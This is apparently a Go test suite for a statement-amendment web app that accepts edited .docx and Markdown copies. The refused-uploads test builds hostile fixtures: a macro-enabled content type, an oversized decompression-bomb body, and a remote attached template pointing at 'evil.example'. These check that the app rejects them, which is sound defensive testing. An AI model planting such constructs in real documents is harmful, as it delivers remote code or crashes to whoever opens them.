package main

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
)

// edited is a document in which somebody changed a part.
func edited(t *testing.T, file string, change func(parts map[string]string)) []byte {
	t.Helper()
	z, err := zip.NewReader(strings.NewReader(file), int64(len(file)))
	if err != nil {
		t.Fatal(err)
	}
	parts := map[string]string{}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		content, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		parts[f.Name] = string(content)
	}
	change(parts)
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	for name, content := range parts {
		part, err := w.Create(name)
		if err == nil {
			_, err = io.WriteString(part, content)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func reworded(old, new string) func(map[string]string) {
	return func(parts map[string]string) {
		parts["word/document.xml"] = strings.Replace(parts["word/document.xml"], old, new, 1)
	}
}

func TestAnEditedWordDocumentComesBackAsAmendmentsWithoutScripts(t *testing.T) {
	eachDatabase(t, func(t *testing.T, flags []string) {
		forum := populate(t, append([]string{"--personas", "1", "--statements", "1"}, flags...)...)
		node := serve(t, flags...)
		member, editor := visit(t, node.URL), visit(t, node.URL)
		member.enter(t, "member", "Minho", flags...)
		editor.enter(t, "editor", "Eun", flags...)
		writer := script{t: t, base: node.URL, token: forum.Tokens[0]}
		at := "/statements/" + forum.Statements[0]
		first := writer.clauseAt(forum.Statements[0], 1)
		second := writer.clauseAt(forum.Statements[0], 2)
		file := member.open(at + ".docx").text
		// Meanwhile somebody works on the second clause.
		writer.call("PATCH", "/api/v1"+at+"/clauses/"+second.CID, map[string]any{"base": second.Text, "text": second.Text + " Meanwhile."}).succeeded()

		upload := member.open(at+"/copies/new").mustBe(200, "Bring back an edited copy").form("/copies/new")
		upload.submitWith("none.docx", nil).mustBe(http.StatusUnprocessableEntity, "choose the file")
		same := upload.submitWith("same.docx", []byte(file)).mustBe(200, "Others have worked on this clause", "Meanwhile")
		if same.form("/copies").fields.Has("a") {
			t.Error("what others did is proposed")
		}
		tracked := edited(t, file, reworded(">"+first.Text+"<", ">"+first.Text+`</w:t></w:r><w:ins w:id="900" w:author="Kim"><w:r><w:t xml:space="preserve"> By Kim.</w:t></w:r></w:ins><w:r><w:t><`))
		check := upload.submitWith("edited.docx", tracked).mustBe(200, "Nothing is kept yet", "as it was when the copy was made", "By Kim", "[added:", "Names of authors were left out")
		wish := check.form("/copies")
		if got := wish.fields["a"]; len(got) != 1 {
			t.Fatalf("chosen is %v", got)
		}
		wish.submit().mustBe(http.StatusUnprocessableEntity, "By Kim") // without a reason
		wish.fill("reason", "It <b>names</b> who.")
		for range 2 { // sent again
			wish.submit().mustBe(200, "Your changes are drafts", "Draft of an amendment")
		}
		list := member.open(at+"/amendments").mustBe(200, "It <b>names</b> who.")
		if n := strings.Count(list.text, "Draft of an amendment"); n != 1 {
			t.Errorf("there are %d drafts", n)
		}
		if editor.open(at + "/amendments").says("Draft of an amendment") {
			t.Error("others see the draft")
		}
		if now := writer.clauseAt(forum.Statements[0], 1); now.Text != first.Text {
			t.Errorf("the text is %q", now.Text)
		}
		// A moderator may comment and not propose.
		moderator := visit(t, node.URL)
		moderator.enter(t, "moderator", "Mo", flags...)
		moderator.open(at + "/copies/new").mustBe(http.StatusForbidden)
	})
}

func TestCopiesThatAreRefusedLeaveNothing(t *testing.T) {
	eachDatabase(t, func(t *testing.T, flags []string) {
		forum := populate(t, append([]string{"--personas", "1", "--statements", "2"}, flags...)...)
		node := serve(t, flags...)
		member := visit(t, node.URL)
		member.enter(t, "member", "Minho", flags...)
		at, other := "/statements/"+forum.Statements[0], "/statements/"+forum.Statements[1]
		file := member.open(at + ".docx").text
		upload := member.open(at + "/copies/new").form("/copies/new")
		for sentence, bad := range map[string][]byte{
			"a copy of another statement": []byte(member.open(other + ".docx").text),
			"damaged or incomplete":       []byte(file[:len(file)/2]),
			"No clause of this statement": []byte("Something else.\n"),
			"macros": edited(t, file, func(parts map[string]string) {
				parts["[Content_Types].xml"] = strings.Replace(parts["[Content_Types].xml"], "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml", 1)
			}),
			"Unpacked": edited(t, file, func(parts map[string]string) {
				parts["word/document.xml"] = strings.Replace(parts["word/document.xml"], "<w:body>", "<w:body>"+strings.Repeat("<w:p/>", 4<<20), 1)
			}),
		} {
			name := "copy.docx"
			if !bytes.HasPrefix(bad, []byte("PK")) {
				name = "copy.md"
			}
			if a := upload.submitWith(name, bad); a.status < 400 || a.status > 422 || !a.says(sentence) {
				t.Errorf("%s: %d %s", sentence, a.status, a.text)
			}
		}
		remote := edited(t, file, func(parts map[string]string) {
			parts["word/_rels/settings.xml.rels"] = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t" Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`
		})
		upload.submitWith("remote.docx", remote).mustBe(200, "fetched from another place", "nothing to propose")
		member.open(at+"/amendments?show=all").mustBe(200, "There is no such amendment")
	})
}

func TestAProgramBringsBackAnEditedMarkdownCopyWhollyOrNotAtAll(t *testing.T) {
	eachDatabase(t, func(t *testing.T, flags []string) {
		forum := populate(t, append([]string{"--personas", "2", "--statements", "1"}, flags...)...)
		node := serve(t, flags...)
		s, other := script{t: t, base: node.URL, token: forum.Tokens[0]}, script{t: t, base: node.URL, token: forum.Tokens[1]}
		at := "/api/v1/statements/" + forum.Statements[0]
		first := s.clauseAt(forum.Statements[0], 1)
		s.call("POST", at+"/versions", map[string]any{"changelog": "First."}).succeeded()
		from := string(s.call("GET", at+".md", nil).body)
		copied := strings.Replace(from, "{#"+first.CID, "Added. {#"+first.CID, 1) + "\nAt the end.\n"
		var plan struct {
			From    string
			Changes []struct {
				Proposals []map[string]any
				Doubtful  bool
			}
		}
		s.sendFile(at+"/copies/new", "text/markdown", copied).into(&plan)
		if !strings.HasPrefix(plan.From, "madang statement "+forum.Statements[0]+" draft 1.") || len(plan.Changes) != 2 || plan.Changes[0].Doubtful {
			t.Fatalf("%+v", plan)
		}
		wish := map[string]any{"reason": "So.", "amendments": []any{
			map[string]any{"id": "0193a6e2-0000-7000-8000-00000000000c", "proposals": plan.Changes[0].Proposals},
			map[string]any{"id": "0193a6e2-0000-7000-8000-00000000000d", "proposals": []any{map[string]any{"kind": "text", "cid": "cgone000000", "base": "a", "text": "b"}}},
		}}
		s.call("POST", at+"/copies", wish).refused(http.StatusGone, "amendment.gone")
		// One whose second id is somebody else's fails in the middle of being kept.
		other.call("POST", at+"/amendments", map[string]any{"id": "0193a6e2-0000-7000-8000-00000000000d", "reason": "Mine.", "proposals": plan.Changes[1].Proposals}).succeeded()
		wish["amendments"].([]any)[1].(map[string]any)["proposals"] = plan.Changes[1].Proposals
		s.call("POST", at+"/copies", wish).refused(http.StatusConflict, "id.taken")
		var list struct{ Items []struct{ State string } }
		if s.call("GET", at+"/amendments", nil).into(&list); len(list.Items) != 0 {
			t.Fatalf("%+v", list)
		}
		wish["amendments"].([]any)[1].(map[string]any)["id"] = "0193a6e2-0000-7000-8000-00000000000e"
		for range 2 {
			s.call("POST", at+"/copies", wish).succeeded()
		}
		if s.call("GET", at+"/amendments", nil).into(&list); len(list.Items) != 2 || list.Items[0].State != "draft" {
			t.Errorf("%+v", list)
		}
	})
}

// sendFile posts a file as it is.
func (s script) sendFile(path, kind, body string) reply {
	s.t.Helper()
	req, err := http.NewRequestWithContext(s.t.Context(), http.MethodPost, s.base+path, strings.NewReader(body))
	if err != nil {
		s.t.Fatal(err)
	}
	req.Header.Set("Content-Type", kind)
	return s.do(req)
}

// textClause is a clause of a statement, as a test looks at it.
type textClause struct{ CID, Node, Text string }

// clauseAt is the n-th clause of a statement that has words and no lists.
func (s script) clauseAt(statement string, n int) textClause {
	s.t.Helper()
	var list struct{ Items []textClause }
	s.call("GET", "/api/v1/statements/"+statement+"/clauses", nil).into(&list)
	for _, c := range list.Items {
		if (c.Node == "clause" || c.Node == "paragraph") && c.Text != "" {
			if n--; n == 0 {
				return c
			}
		}
	}
	s.t.Fatal(fmt.Sprint("there are too few clauses in ", statement))
	return textClause{}
}
